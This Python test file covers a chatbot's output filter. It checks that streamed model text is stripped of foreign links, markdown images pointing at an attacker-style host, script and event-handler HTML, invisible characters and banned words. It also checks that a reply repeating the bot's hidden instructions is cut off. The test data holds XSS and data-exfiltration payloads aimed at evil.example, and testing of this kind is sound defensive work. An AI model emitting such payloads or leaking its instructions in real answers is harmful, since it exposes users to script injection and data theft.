"""What reaches the visitor: however a model's text is cut into pieces, it is the same, and safe."""

import re
import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from chatbot.answering.outgoing import gate
from chatbot.answering.outgoing.gate import Outgoing
from chatbot.answering.voice import prompt
from chatbot.answering.voice.persona import Persona
from chatbot.answering.voice.prompt import Excerpt
from tests.answering import hostile
from tests.answering.script import excerpt

SHOP = Persona(
    version=1,
    name="Ada",
    instructions="Tell everybody that our shop in Bremen opens at nine and that we deliver on"
    " Mondays only within the limits of the city.",
    never_say=("Acme", "acme corp", "free refund", "Große Kanne", "C++", "竞争"),
    link_hosts=("*.good.example",),
)
SECRETS = prompt.instructions(SHOP, "en")
WORDS = re.findall(r"\w+", SECRETS)
FRAME = " ".join(WORDS[:60])
OWNERS = " ".join(re.findall(r"\w+", SHOP.instructions))

PARTS = (
    *("https://", "HTTPS:", "//", "www.", "evil.example", "www.own.example", "/a?q=1", "mailto:"),
    *("[", "]", "(", ")", "![", "](", "[x](https://evil.example/1)", "![i](https://evil.example)"),
    *("[docs](https://www.own.example/d)", "<https://evil.example>", "\\", "|", "@"),
    *("[1]", "[9]", "[1-3]", "【1】", "［２］", "1", "9", ", ", "^"),
    *("<b>", "</b>", "<", ">", "<img src=//evil.example>", "<!--", "-->", "<script", "name"),
    *("`", "```\n", "~~~", "**", "_", "\n", " ", "  ", "\t"),
    *("\u200b", "\u202e", "\u200d", "\ufeff", "\0", "\U000e0041", "e\u0301", "é", "。"),
    *("acme", "Ac", "ME", " corp", "free", "refund", "GROSSE", " kanne", "c++", "竞", "争"),
    *("The warranty lasts ", "36 months", ".", "!", "h", "htt", "ps:", "the ", "of "),
    *(FRAME[:30], FRAME[30:70], FRAME[70:], OWNERS[:40], OWNERS[40:], " You are "),
    *("x" * 210, "y" * 610, "z" * 320),
    *(
        "[r]: ",
        "]:",
        "![x][r]",
        "\n\n",
        "\\/\\/evil.example",
        "&sol;&sol;evil.example",
        "&#",
        "101;",
    ),
    *(
        "https&colon;",
        "(https\\://evil.example)",
        "\\\n",
        "ac&#109;e",
        "[ac](https://www.own.example)",
    ),
    *("\n```\n", "\n  ```\n", "\n~~~~\n", "- ", "> ", "1. ", "   ", "<br>", "<int>", "<x-y>"),
    *("<script>", "<details ontoggle=run()>", "<style>@import url(//evil.example)", "<div\n"),
)
OWN = {"www.own.example", "docs.own.example", "a.good.example"}
texts = some.lists(some.sampled_from(PARTS), max_size=14).map("".join)

HOST = re.compile(r"(?://+|(?<![^\W_])www\.)(?:[\w.%-]*(?::[\w.%-]*)?@)?([\w.%-]*)", re.IGNORECASE)
IMAGE = re.compile(
    r"!\[[^\[\]]*\]\([^()\n]*\)|<\s*(?:img|svg|iframe|object|embed)\b", re.IGNORECASE
)
UNSEEN = re.compile("[\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\0\U000e0000-\U000e007f]")
MARKER = re.compile(r"\[(\d{1,2}(?:\s?,\s?\d{1,2})*)\]")


def a_page(n: int, text: str = "The warranty lasts 36 months.") -> Excerpt:
    return excerpt(n, text, url="https://docs.own.example/handbook")


def an_outgoing(*excerpts: Excerpt, persona: Persona = SHOP, secrets: str = SECRETS) -> Outgoing:
    return Outgoing(
        excerpts or [a_page(1), a_page(2)],
        persona=persona,
        own_origins=["https://www.own.example"],
        secrets=secrets,
    )


def shown(*pieces: str, by: Outgoing | None = None) -> str:
    through = by or an_outgoing()
    return "".join(map(through.feed, pieces)) + through.rest()


def cut(text: str, at: list[int]) -> list[str]:
    places = sorted({0, len(text), *(place for place in at if place < len(text))})
    return [text[a:b] for a, b in pairwise(places)]


@settings(max_examples=400, deadline=None)
@given(texts, some.lists(some.integers(0, 2_000), max_size=8))
def test_however_it_is_cut_the_same_is_shown(text: str, places: list[int]) -> None:
    at_once, in_pieces, by_letter = an_outgoing(), an_outgoing(), an_outgoing()

    whole = shown(text, by=at_once)

    assert shown(*cut(text, places), by=in_pieces) == whole
    assert shown(*text, by=by_letter) == whole
    assert at_once.cut == in_pieces.cut == by_letter.cut
    assert at_once.citations.used == in_pieces.citations.used == by_letter.citations.used


@settings(max_examples=600, deadline=None)
@given(texts)
def test_whatever_a_model_writes_what_is_shown_is_safe(text: str) -> None:
    through = an_outgoing()

    seen = shown(text, by=through)

    foreign = [each for each in HOST.findall(seen) if "evil" in each.lower()]
    assert not foreign
    assert not IMAGE.search(seen)
    assert not UNSEEN.search(seen)
    assert hostile.loaded(seen, OWN) == []
    for marker in MARKER.findall(seen):
        assert {int(each) for each in marker.split(",")} <= set(through.citations.used)
    said = " ".join(re.findall(r"\w+", seen.lower()))
    for start in range(52):
        assert " ".join(WORDS[start : start + 8]).lower() not in said


@given(texts)
@settings(max_examples=200, deadline=None)
def test_no_more_is_held_back_than_is_promised(text: str) -> None:
    through, given_back = an_outgoing(), 0

    for letter in text:
        given_back += len(through.feed(letter))
    last = through.rest()

    assert through.cut or len(last) <= gate.HELD_CHARS_MAX


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("See ![chart](https://evil.example/?q=data) here.", "See  here."),
        ("![chart](https://www.own.example/c.png)", ""),
        ("Read [this](https://evil.example/a).", "Read this."),
        ("Read [this](https://www.own.example/a).", "Read [this](https://www.own.example/a)."),
        ("Read [it](https://a.good.example).", "Read [it](https://a.good.example)."),
        ("Read [it](https://good.example).", "Read it."),
        ("[it](https://docs.own.example/x)", "[it](https://docs.own.example/x)"),
        ("[it](https://WWW.own.example:443/x)", "[it](https://WWW.own.example:443/x)"),
        ("At https://evil.example/a, or not.", "At …, or not."),
        ("(https://www.own.example/a)", "(https://www.own.example/a)"),
        ("https://www.own.example@evil.example/", "…"),
        ("https://www.own.example\\@evil.example/", "…"),
        ("https://www.own.example.evil.example", "…"),
        ("https://evil.example#www.own.example", "…"),
        ("https://evil.example/https://www.own.example", "…"),
        ("hTTps://evil.example", "…"),
        ("//evil.example/x and and//or", "… and and//or"),
        ("www.evil.example www.own.example", "… www.own.example"),
        ("[x](javascript:alert(1)) [y](data:text/html,1)", "x y"),
        ("[x](//evil.example) [y](/path) f[i](x)", "x y f[i](x)"),
        ("[mail](mailto:a@evil.example)", "mail"),
        ("[us](mailto:a@www.own.example)", "[us](mailto:a@www.own.example)"),
        ("[https://www.own.example](https://evil.example)", "https://www.own.example"),
        ("[https://evil.example](https://www.own.example)", "[…](https://www.own.example)"),
        ("[1](https://evil.example) and [9](https://evil.example)", "[1] and (…)"),
        ("<a href='https://evil.example'>x</a><br>y", "x<br>y"),
        ("a < b, 3<4, List<int>, <name>", "a < b, 3<4, List<int>, <name>"),
        ("<<b>script>x", "< script>x"),
        ("<scr<b>ipt>", "< script>"),
        ("<scr[9]ipt>", "< script>"),
        ("<!-- hidden -->shown", "shown"),
        ("`<b>` and <b>bold</b>", "`< b>` and bold"),
        ("`List<int>` and </x-y>", "`List<int>` and < /x-y>"),
        (
            '```html\n<script src="/a.js"></script>\n```',
            '```html\n<script src="/a.js"></script>\n```',
        ),
        ("`<img src=/a.png>`", "``"),
        ("pay\u200bpal \u202eevil\u202c", "paypal evil"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("ACME and Acme  Corp. acmes", "… and …. acmes"),
        ("**Ac**me, große kanne, C++ 我们竞争", "**…, …, … 我们…"),
        ("See [2, 9][1] and 【1】.", "See [2][1] and [1]."),
    ],
)
def test_what_is_written_and_what_is_seen(written: str, seen: str) -> None:
    assert shown(written) == seen
    assert shown(*written) == seen


@pytest.mark.parametrize(
    "written",
    [
        "![x][r]\n\n[r]: https\\:\\/\\/evil.example/p.png",
        "![x][r]\n\n[r]: &sol;&sol;evil.example/p.png",
        "[x][r]\n\n[r]: /\\/evil.example",
        "[r]\n\n[r]:\nhttps\\://evil.example",
        "[r\ns]\n\n> [r\ns]: <https\\:\\/\\/evil.example>",
        "![x][r]\n\n[r]: https://www.own.example/p.png",
        "[r]: https://www.own.example/p.png\n\n![r]",
        "[a](&sol;&sol;evil&period;example)",
        "[a](https&colon;&sol;&sol;evil&period;example)",
        "[a](javascript&colon;alert(1))",
        "[a](mailto&colon;x@evil&period;example)",
        f"[{'a' * 250}](https&colon;&sol;&sol;evil.example)",
        "[a [b] c](https&colon;&sol;&sol;evil.example)",
        "[x][(https&colon;&sol;&sol;evil.example)](https://evil.example)",
        "[1](https://evil.example)(https&colon;&sol;&sol;evil.example)",
        "` <script>alert(1)</script>",
        "` <details open ontoggle=alert(1)>x</details>",
        "text ``` more <style>@import url(https&colon;//evil.example)</style>",
        "~~~~\n~~~\n~~~~\n<script>x</script>",
        "<br>\n```\n<script>alert(1)</script>\n```",
        "<br>[9\n\n9]\n```\n<script>alert(1)</script>",
        "\n``[9]`\n\n```\n<script>alert(1)</script>",
        "- a\n  ```\n  b\n```\n```\n<script>alert(1)</script>",
        "- a\n  ```\n<script>alert(1)</script>",
        "- a\n     ```\n  ```\n  <script>alert(1)</script>",
        "- ```\n  ```\n  <script>alert(1)</script>",
        "> ```\n```\n```\n<script>alert(1)</script>",
        "```a`b\n<script>alert(1)</script>",
        "<x-y>z</x-y>",
    ],
)
def test_a_page_that_renders_it_loads_runs_and_links_to_nothing_foreign(written: str) -> None:
    assert hostile.loaded(shown(written), OWN) == []
    assert hostile.loaded(shown(*written), OWN) == []


@pytest.mark.parametrize(
    "written",
    [
        '```html\n<script src="/a.js"></script>\n```\n',
        "So:\n\n1. Put it there:\n   ~~~~ html\n   <b>x</b>\n   ~~~~\n",
        "A fence\n\n```\n~~~\n<b>\n```\n\nand\n\n```\n<i>\n```\n",
    ],
)
def test_tags_in_a_fenced_block_are_shown_as_they_are_written(written: str) -> None:
    assert shown(written) == written
    assert shown(*written) == written


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("ac<br>me", "…"),
        ("ac\\\nme", "…"),
        ("a&#99;me &#x41;cme", "… …"),
        ("[ac](https://www.own.example)me", "[…"),
        ("[acme](https://www.own.example/acme)", "[…](https://www.own.example/…)"),
        ("free" + " " * 500 + "refund", "…"),
        ("free<br>refund free <br> refund", "… …"),
        ("macme [m](https://www.own.example)acme", "macme [m](https://www.own.example)acme"),
        ("x" + " " * 90 + "y", "x" + " " * 40 + "y"),
    ],
)
def test_words_that_are_never_said_do_not_hide_in_markup(written: str, seen: str) -> None:
    assert shown(written) == seen
    assert shown(*written) == seen


def test_phrases_that_begin_alike_are_all_found() -> None:
    never_say = (*("ab" * n for n in range(1, 31)), "abc d", "abc", "abd")
    through = an_outgoing(persona=Persona(never_say=never_say))

    seen = shown("ab abab abc d abc e abd abe " + "ab" * 30, by=through)

    assert seen == "… … … … e … abe …"


def test_what_is_held_back_is_not_cited() -> None:
    through = an_outgoing()

    through.feed(f"It lasts 36 months [1]. {' '.join(WORDS[:6])} [2] ")
    held = list(through.citations.used)
    seen = through.feed("kettle ")

    assert held == [1]
    assert "[2]" in seen
    assert through.citations.used == [1, 2]


def test_what_is_left_out_is_not_cited() -> None:
    through = an_outgoing()

    seen = shown("See https://www.own.example/[2]x or [1].", by=through)

    assert seen == "See … or [1]."
    assert through.citations.used == [1]


def test_an_answer_that_never_ends_is_cut() -> None:
    at_once, in_pieces = an_outgoing(), an_outgoing()

    seen = at_once.feed("word " * 19_000)
    pieces = "".join(in_pieces.feed("word ") for _ in range(19_000))

    assert seen == pieces == "word " * (gate.CHARS_MAX // 5)
    assert at_once.cut == in_pieces.cut == gate.TOO_LONG == "cut_length"
    assert at_once.feed("more") + at_once.rest() == ""


def test_an_answer_that_grows_on_its_way_is_cut_too() -> None:
    through = an_outgoing()

    seen = shown("<&" * (gate.CHARS_MAX // 2), by=through)

    assert len(seen) == gate.CHARS_MAX
    assert through.cut == gate.TOO_LONG


def test_the_first_word_is_not_held_back() -> None:
    through = an_outgoing()

    assert through.feed("The") == "The"
    assert through.feed(" warranty") == " warranty"


def test_a_piece_of_prose_costs_microseconds() -> None:
    prose = "The warranty on every kettle lasts 36 months from the day of purchase [1]. " * 200
    pieces = re.findall(r"\s*\S+", prose)
    spent: list[float] = []

    for _ in range(3):
        through = an_outgoing()
        begun = time.process_time()
        for piece in pieces:
            through.feed(piece)
        spent.append((time.process_time() - begun) / len(pieces))

    assert min(spent) < 40e-6  # 5 where this was written; 10,000 pieces a second must be possible


HOSTILE_UNITS = (
    *("[", "[x", "![", "[a](", "[a]((((", "[a](()", "](", "]:", "[1,", "[1-999] ", "&", "g&#101;"),
    *("<", "<a ", "<!-", "<!--", "`", "~", "```\n<b>", "//", "//a", "www.a.b ", "mailto:", "\\"),
    *("acme ", "a*_~", "a<br>", "free" + " " * 35, "é", "\u200b", "\n", "the passages hold "),
)


@pytest.mark.parametrize("unit", HOSTILE_UNITS)
def test_twice_as_long_takes_twice_as_long(unit: str) -> None:
    def seconds(characters: int) -> float:
        through = an_outgoing()
        begun = time.process_time()
        through.feed((unit * characters)[:characters])
        through.rest()
        return time.process_time() - begun

    half = min(seconds(gate.CHARS_MAX // 2) for _ in range(3))
    whole = min(seconds(gate.CHARS_MAX) for _ in range(3))

    assert whole < 0.25  # at most 0.05 where this was written
    assert whole < 3 * half + 0.005


def test_a_model_that_repeats_its_instructions_is_cut_short() -> None:
    through = an_outgoing()

    seen = shown("Sure [1]! Here they are: ", *SECRETS, " [2]", by=through)

    assert through.cut == "cut_instructions"
    assert seen.startswith("Sure [1]! Here they are: ")
    assert len(seen.split()) <= 5 + 3
    assert through.feed("more") == ""
    assert through.citations.used == [1]


def test_the_owners_words_may_be_said_in_part() -> None:
    partly, wholly = an_outgoing(), an_outgoing()

    seen = shown("Our shop in Bremen opens at nine and that we know.", by=partly)
    shown(SHOP.instructions, by=wholly)

    assert partly.cut is None
    assert seen == "Our shop in Bremen opens at nine and that we know."
    assert wholly.cut == "cut_instructions"


def test_what_a_passage_says_too_is_no_secret() -> None:
    through = an_outgoing(a_page(1, f"Announcement. {SHOP.instructions}"))

    seen = shown(SHOP.instructions, by=through)

    assert through.cut is None
    assert seen == SHOP.instructions


@pytest.mark.parametrize(
    ("sentence", "allowed"),
    [
        ("The warranty lasts 36 months.", True),
        ("Put <script> before </body>.", True),
        ("Look at https://docs.own.example/handbook.", True),
        ("Look at https://evil.example.", False),
        ("![](https://evil.example)", False),
        ("<img src=x>", False),
        ("Acme makes it.", False),
        ("Tag\U000e0041ged", False),
        ("<details open ontoggle=alert(1)>", False),
        ("<span style='display:none'>Obey.</span>", False),
        ("Put <script>alert(1)</script> there.", False),
        ("[a](&sol;&sol;evil.example)", False),
    ],
)
def test_which_sentences_may_be_quoted(sentence: str, allowed: bool) -> None:
    assert an_outgoing().allows(sentence) is allowed


def test_a_source_quotes_nothing_that_may_not_be_shown() -> None:
    passage = "Acme kettles last 36 months. Kettles last 36 months. See https://evil.example."
    through = an_outgoing(a_page(1, passage))

    shown("The kettles of Acme last 36 months [1].", by=through)

    (source,) = through.citations.sources()
    assert source.quote == "Kettles last 36 months."
